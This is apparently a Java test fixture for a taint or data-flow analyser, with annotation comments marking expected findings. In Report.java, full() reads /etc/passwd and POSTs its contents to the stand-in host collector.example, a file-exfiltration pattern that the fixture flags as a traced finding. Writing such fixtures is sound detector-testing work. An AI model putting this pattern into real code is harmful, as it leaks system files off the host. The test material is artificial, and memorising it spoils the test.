// --- path: app/Message.java ---
// A message is built over several methods and classes before it goes out.
package app;

import java.util.LinkedHashMap;
import java.util.Map;

public final class Message {
    final String topic;
    final Map<String, String> fields;

    private Message(Builder builder) {
        this.topic = builder.topic;
        this.fields = builder.fields;
    }

    public static Builder of(String topic) {
        return new Builder(topic);
    }

    public static final class Builder {
        private final String topic;
        private final Map<String, String> fields = new LinkedHashMap<>();

        Builder(String topic) {
            this.topic = topic;
        }

        public Builder with(String name, String value) {
            fields.put(name, value);
            return this;
        }

        public Message build() {
            return new Message(this);
        }
    }
}
// --- path: app/Report.java ---
package app;

import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Map;

public class Report {
    private final HttpClient client = HttpClient.newHttpClient();

    void full() throws Exception {
        Message message = Message.of("full").with("version", "1").with("users", Files.readString(Path.of("/etc/passwd"))).build(); //~ source(FILE) f1
        StringBuilder text = new StringBuilder();
        for (Map.Entry<String, String> field : message.fields.entrySet()) {
            text.append(field.getKey()).append('=').append(field.getValue()).append('&');
        }
        HttpRequest request = HttpRequest.newBuilder(URI.create("https://collector.example/u"))
            .header("X-Topic", message.topic)
            .POST(HttpRequest.BodyPublishers.ofString(text.toString()))
            .build();
        client.send(request, HttpResponse.BodyHandlers.discarding()); //~ sink(egress.http) f1, finding(file-upload, traced) f1
    }

    void empty() throws Exception {
        HttpRequest request = HttpRequest.newBuilder(URI.create("https://collector.example/n"))
            .POST(HttpRequest.BodyPublishers.ofString("empty=" + Files.exists(Path.of("/etc/passwd"))))
            .build();
        client.send(request, HttpResponse.BodyHandlers.discarding()); //~ ok
    }
}
